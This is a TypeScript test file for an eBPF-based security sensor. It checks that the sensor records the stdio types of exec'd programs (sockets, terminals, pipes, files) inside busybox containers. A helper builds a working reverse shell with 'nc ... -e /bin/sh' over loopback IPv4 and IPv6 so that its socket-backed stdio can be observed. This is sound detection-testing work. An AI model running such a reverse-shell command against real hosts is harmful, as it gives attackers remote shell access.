// What an exec'd program's standard streams are (exec records' stdio), read by the
// real BPF program from the task's fd table, on real containers: a reverse shell has a
// network socket for stdin and stdout, an interactive shell a terminal. The agent does
// not write the field into its events yet, so these tests read the sensor's records.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync, spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { missingForContainerTests, TEST_IMAGES } from '../helpers/host.js';
import { runUnderSensor, type ExecRecord } from '../helpers/sensor.js';

const skip = missingForContainerTests();
const hasCc = spawnSync('cc', ['--version'], { stdio: 'ignore' }).status === 0;
const fixtureSource = resolve(dirname(fileURLToPath(import.meta.url)), '..', '..', '..', 'test', 'agent', 'fixtures', 'stdio-set.c');
const SOCKETS = ['unix', 'inet', 'inet6', 'socket'];

function listing(execs: ExecRecord[]): string {
  return JSON.stringify(execs.map((e) => [e.argv, e.stdio]));
}

function execOf(execs: ExecRecord[], argv: string[]): ExecRecord {
  const e = execs.find((r) => JSON.stringify(r.argv) === JSON.stringify(argv));
  assert.ok(e, `no exec of ${JSON.stringify(argv)} in ${listing(execs)}`);
  return e;
}

/** A listener in the container feeds `commands` to whatever connects; busybox nc -e runs /bin/sh on the connection. */
function reverseShell(addr: string, commands: string): string {
  return `echo "${commands}" | nc -l -p 4444 & ` +
    // Retried until the listener is up (busybox nc exits 1 on a refused connect).
    `i=0; until nc ${addr} 4444 -e /bin/sh; do i=$((i+1)); [ $i -gt 50 ] && exit 9; sleep 0.1; done; wait`;
}

test('a reverse shell over TCP/IPv4: the shell nc runs has inet sockets for stdin and stdout, the shell it execs with 2>&1 for all three', { skip }, async () => {
  const run = await runUnderSensor(TEST_IMAGES.busybox, reverseShell('127.0.0.1', "exec sh -c 'cat /etc/hostname' 2>&1"));
  assert.equal(run.exitCode, 0, run.logs);
  assert.deepEqual(run.errors, []);
  assert.match(run.logs, /^[0-9a-f]{12}$/m, 'the commands ran in the shell and its output came back to the listener');
  // busybox nc -e moves the socket onto fds 0 and 1 only; fd 2 stays the container's stderr.
  assert.deepEqual(execOf(run.execs, ['/bin/sh']).stdio, ['inet', 'inet', 'pipe'], listing(run.execs));
  assert.deepEqual(execOf(run.execs, ['sh', '-c', 'cat /etc/hostname']).stdio, ['inet', 'inet', 'inet'], listing(run.execs));
  assert.deepEqual(execOf(run.execs, ['cat', '/etc/hostname']).stdio, ['inet', 'inet', 'inet'], 'a child inherits the sockets');
  // The listener reads a pipe and writes the container's stdout: no socket among its stdio.
  assert.deepEqual(execOf(run.execs, ['nc', '-l', '-p', '4444']).stdio, ['pipe', 'pipe', 'pipe']);
});

test('a reverse shell over TCP/IPv6: inet6 sockets', { skip: skip ?? (existsSync('/proc/sys/net/ipv6') ? undefined : 'IPv6 is disabled in this kernel') }, async () => {
  const run = await runUnderSensor(TEST_IMAGES.busybox, reverseShell('::1', 'exit'), ['--sysctl', 'net.ipv6.conf.lo.disable_ipv6=0']);
  assert.equal(run.exitCode, 0, run.logs);
  assert.deepEqual(execOf(run.execs, ['/bin/sh']).stdio, ['inet6', 'inet6', 'pipe'], listing(run.execs));
});

test('docker run -t: the command and its children have a terminal for stdin, stdout and stderr', { skip }, async () => {
  const run = await runUnderSensor(TEST_IMAGES.busybox, 'cat /etc/hostname', ['-t']);
  assert.equal(run.exitCode, 0, run.logs);
  const sh = run.execs[0];
  assert.ok(sh && sh.argv[0] === 'sh', listing(run.execs));
  assert.deepEqual(sh.stdio, ['tty', 'tty', 'tty']);
  assert.deepEqual(execOf(run.execs, ['cat', '/etc/hostname']).stdio, ['tty', 'tty', 'tty']);
});

test('a detached container without -t: /dev/null and the runtime pipes, no socket and no terminal', { skip }, async () => {
  const run = await runUnderSensor(TEST_IMAGES.busybox, 'cat /etc/hostname');
  assert.equal(run.exitCode, 0, run.logs);
  assert.ok(run.execs.length >= 2, listing(run.execs));
  for (const e of run.execs) {
    assert.deepEqual(e.stdio, ['chr', 'pipe', 'pipe'], listing(run.execs));
    assert.ok(!e.stdio.some((k) => SOCKETS.includes(k) || k === 'tty'));
  }
});

test('a pipeline, redirections to files and a directory, a closed stdin', { skip }, async () => {
  const run = await runUnderSensor(TEST_IMAGES.busybox, 'echo x | cat; cat </etc/hostname >/tmp/out 2>&-; cat /etc/hostname </; cat /tmp/out <&-');
  assert.equal(run.exitCode, 0, run.logs);
  assert.deepEqual(execOf(run.execs, ['cat']).stdio, ['pipe', 'pipe', 'pipe'], listing(run.execs));
  const cats = run.execs.filter((e) => e.argv[0] === 'cat');
  assert.deepEqual(cats.map((e) => [e.argv, e.stdio]), [
    [['cat'], ['pipe', 'pipe', 'pipe']],
    [['cat'], ['file', 'file', 'none']],
    [['cat', '/etc/hostname'], ['dir', 'pipe', 'pipe']],
    [['cat', '/tmp/out'], ['none', 'pipe', 'pipe']],
  ]);
});

test('an eventfd, a pidfd, a namespace file: other; a unix socket, a netlink socket, a closed fd', { skip: skip ?? (hasCc ? undefined : 'no C compiler (cc) to build the fixture') }, async () => {
  const fixture = join(mkdtempSync(join(tmpdir(), 'vigil-stdio-')), 'stdio-set');
  execFileSync('cc', ['-O2', '-static', '-o', fixture, fixtureSource]);
  const run = await runUnderSensor(TEST_IMAGES.busybox,
    '/stdio-set eventfd pidfd nsfs -- /bin/true && /stdio-set unix netlink closed -- /bin/true', ['-v', `${fixture}:/stdio-set:ro`]);
  assert.equal(run.exitCode, 0, run.logs);
  const trues = run.execs.filter((e) => JSON.stringify(e.argv) === '["/bin/true"]');
  assert.deepEqual(trues.map((e) => e.stdio), [['other', 'other', 'other'], ['unix', 'socket', 'none']], listing(run.execs));
});
